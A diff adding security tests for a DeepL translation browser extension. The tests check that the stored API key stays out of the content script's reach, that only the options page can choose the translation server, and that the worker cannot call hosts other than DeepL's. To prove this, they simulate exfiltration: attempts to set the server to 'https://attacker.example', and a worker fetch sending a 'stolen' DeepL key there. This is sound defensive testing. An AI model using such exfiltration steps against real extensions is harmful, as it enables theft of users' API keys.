@@ -1,0 +1,109 @@
+// The key and where it goes are out of the page's process's reach: code running in the content
+// script's world cannot read or write extension storage, cannot choose the DeepL server, and the
+// worker cannot send anything (the key included) to a host other than DeepL's.
+import type { Page, Request } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { STORED } from '../../lib/storage/keys';
+import { launchExtension, TEST_KEY, type ExtensionSession } from './harness';
+import { settled } from './page-probe';
+import { contentProbe } from './soak';
+
+const ATTACKER = 'https://attacker.example';
+
+let session: ExtensionSession;
+/** Requests that reached the attacker's host through the browser (answered 200 if they get that far). */
+const atAttacker: Request[] = [];
+beforeAll(async () => {
+  session = await launchExtension();
+  await session.context.route(`${ATTACKER}/**`, (route) => {
+    atAttacker.push(route.request());
+    return route.fulfill({ status: 200, contentType: 'application/json', body: '{"translations":[]}' });
+  });
+});
+afterAll(() => session?.close());
+
+async function contentWorld(page: Page) {
+  const probe = await contentProbe(page);
+  // The content script has run once it answers for its stats.
+  await expect.poll(() => probe.evaluate<boolean>('typeof globalThis.__rnlStats === "function"')).toBe(true);
+  return probe;
+}
+
+/** Outcome of a storage call in the content script's world: what it read, or the error. */
+const attempt = (call: string) => `${call}.then((value) => ({ ok: true, value: JSON.stringify(value ?? null) }), (error) => ({ ok: false, error: String(error?.message ?? error) }))`;
+
+test('the content script’s world cannot read storage.local (the key is there), and the page still works', async () => {
+  const page = await session.openSite('/explore?cards=6');
+  const world = await contentWorld(page);
+  const read = await world.evaluate<{ ok: boolean; value?: string; error?: string }>(attempt('chrome.storage.local.get(null)'));
+  expect(read).toEqual({ ok: false, error: expect.stringMatching(/Access to storage is not allowed from this context/) });
+  expect(JSON.stringify(read)).not.toContain(TEST_KEY);
+  // Its settings came from the worker: it translates, and follows a change made elsewhere.
+  await expect.poll(async () => (await settled(page)).translated).toBeGreaterThan(5);
+  await session.setSettings({ mode: 'off' });
+  await expect.poll(() => page.locator('.rnl-t').count()).toBe(0);
+  await session.setSettings({ mode: 'bilingual' });
+  await expect.poll(() => page.locator('.rnl-t').count()).toBeGreaterThan(5);
+  await world.detach();
+  await page.close();
+});
+
+test('only the options page chooses the DeepL server: https, on an origin the build may reach; nothing else can', async () => {
+  const page = await session.openSite('/explore?cards=4');
+  const world = await contentWorld(page);
+  // Written into storage from the content script's world: refused.
+  const write = await world.evaluate<{ ok: boolean; error?: string }>(attempt(`chrome.storage.local.set({ ${JSON.stringify(STORED.deeplServer.key)}: '${ATTACKER}', settings: { mode: 'off' } })`));
+  expect(write).toMatchObject({ ok: false, error: expect.stringMatching(/not allowed/) });
+  // Asked of the worker from the content script, or from the popup: refused.
+  const askFromPage = await world.evaluate<{ ok: boolean; error?: string }>(`chrome.runtime.sendMessage({ type: 'set-deepl-server', url: '${ATTACKER}' })`);
+  expect(askFromPage).toMatchObject({ ok: false });
+  const popup = await session.openPopup();
+  const askFromPopup = await popup.evaluate((url) => (globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<unknown> } } }).chrome.runtime.sendMessage({ type: 'set-deepl-server', url }), ATTACKER);
+  expect(askFromPopup).toMatchObject({ ok: false, error: expect.stringMatching(/Invalid message/) });
+
+  // In the options page: not https, or not an origin of the build, refused; DeepL's own host taken.
+  const options = await session.context.newPage();
+  await options.goto(`chrome-extension://${session.extensionId}/options.html`);
+  const field = options.getByLabel('DeepL-compatible server (https)');
+  const use = async (url: string) => {
+    await field.fill(url);
+    await options.getByRole('button', { name: 'Use this server' }).click();
+  };
+  await use('http://api.deepl.com');
+  await expect.poll(() => options.getByRole('status').innerText()).toMatch(/must use https/);
+  await use(ATTACKER);
+  await expect.poll(() => options.getByRole('status').innerText()).toMatch(/not among the servers this build may reach/);
+  await use('https://api.deepl.com');
+  await expect.poll(() => options.getByRole('status').innerText()).toBe('Requests now go to https://api.deepl.com.');
+  // The popup shows it.
+  await popup.reload();
+  await expect.poll(() => popup.getByLabel('DeepL server').innerText()).toContain('https://api.deepl.com');
+  await options.getByRole('button', { name: 'Back to DeepL’s own host' }).click();
+  await expect.poll(() => popup.getByLabel('DeepL server').count()).toBe(0);
+
+  // A server in storage that no options page could have set (old settings field, or written where
+  // content scripts can write storage, as in Firefox): not used. Translations go to DeepL.
+  await session.setSettings({ deeplServerUrl: ATTACKER } as never);
+  await session.worker.evaluate(
+    ([key, url]) => (globalThis as unknown as { chrome: { storage: { local: { set(v: unknown): Promise<void> } } } }).chrome.storage.local.set({ [key!]: url }),
+    [STORED.deeplServer.key, ATTACKER],
+  );
+  const before = session.deepl.translateRequests().length;
+  const next = await session.openSite('/explore?cards=8');
+  await expect.poll(async () => (await settled(next)).translated).toBeGreaterThan(5);
+  expect(session.deepl.translateRequests().length).toBeGreaterThan(before);
+  expect(atAttacker).toEqual([]);
+  await world.detach();
+});
+
+test('the worker can reach DeepL’s hosts and no other (the CSP blocks it before any route)', async () => {
+  const fetchFromWorker = (url: string) =>
+    session.worker.evaluate(
+      (u) => fetch(u, { method: 'POST', headers: { Authorization: 'DeepL-Auth-Key stolen' } }).then((r) => `status ${r.status}`, (e: Error) => `failed: ${e.message}`),
+      url,
+    );
+  expect(await fetchFromWorker(`${ATTACKER}/v2/translate`)).toMatch(/^failed/);
+  expect(atAttacker).toEqual([]);
+  // DeepL's hosts still answer (through the harness's routes to the local server).
+  expect(await fetchFromWorker('https://api-free.deepl.com/v2/usage')).toBe('status 200');
+});
